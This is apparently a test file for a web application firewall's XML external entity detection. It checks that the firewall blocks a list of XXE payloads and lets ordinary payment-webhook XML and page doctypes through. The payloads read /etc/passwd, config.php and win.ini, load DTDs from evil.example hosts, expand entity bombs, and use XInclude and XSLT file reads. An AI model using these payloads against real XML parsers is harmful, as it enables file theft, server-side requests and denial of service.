import { expect } from 'chai';
import { inspectRequest } from '../../../plugins/waf/engine/index.js';
import { findMissed, findWronglyBlocked, listRules, makePolicy } from './helpers.js';

const ATTACKS = [
  '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/hostname">]><order>&x;</order>',
  '<!DOCTYPE r [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>',
  '<!ENTITY % p SYSTEM "file:///var/www/config.php">',
  '<!DOCTYPE bomb [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><bomb>&b;</bomb>',
  '<?xml version="1.0"?>\n<!DOCTYPE invoice SYSTEM "http://10.1.2.3/oob.dtd">\n<invoice/>',
  '<!DOCTYPE x PUBLIC "-//Evil//X" "ftp://evil.example/d.dtd"><x/>',
  '<!DOCTYPE x [ %param; ]>',
  '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/group"/></root>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/hosts\')"/></xsl:template></xsl:stylesheet>',
  '&lt;!DOCTYPE a [&lt;!ENTITY b SYSTEM "file:///c:/windows/win.ini"&gt;]&gt;',
];

/** XML as payment providers and carriers send it, and doctypes of ordinary pages. */
const PLAIN_XML = [
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><notification><orderId>1042</orderId><status>PAID</status></notification>',
  "<?xml version='1.0'?><xml><return_code><![CDATA[SUCCESS]]></return_code><total_fee>1999</total_fee></xml>",
  '<!DOCTYPE html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
  'Tom &amp; Jerry &copy; 2024',
  'Please include the invoice',
];

describe('waf XML external entities', () => {
  it('blocks entity declarations, external DTDs, parameter entities, XInclude and XSLT file reads', () => {
    expect(findMissed(ATTACKS)).to.deep.equal([]);
  });

  it('passes XML prologs, plain documents and page doctypes', () => {
    expect(findWronglyBlocked(PLAIN_XML)).to.deep.equal([]);
  });

  it('passes an XML webhook body and blocks the same body with an external entity', () => {
    const body = '<?xml version="1.0" encoding="UTF-8"?>\n<Notify><TradeNo>2024</TradeNo><Amount>1999</Amount></Notify>';
    const request = (rawBody: string) => ({ method: 'POST', path: '/webhooks/pay', query: {}, headers: { host: 'shop.example.com', 'content-type': 'application/xml' }, rawBody });
    expect(inspectRequest(request(body), makePolicy()).blocked).to.equal(false);
    const evil = body.replace('?>\n', '?>\n<!DOCTYPE Notify [<!ENTITY t SYSTEM "file:///etc/passwd">]>\n').replace('2024', '&t;');
    expect(inspectRequest(request(evil), makePolicy()).blocked).to.equal(true);
  });

  it('names the technique', () => {
    expect(listRules('<!ENTITY e SYSTEM "http://x.example/">', 'xxe')).to.include('xxe.entity-declaration');
    expect(listRules('<!DOCTYPE d SYSTEM "http://x.example/d.dtd">', 'xxe')).to.include('xxe.external-dtd');
  });
});
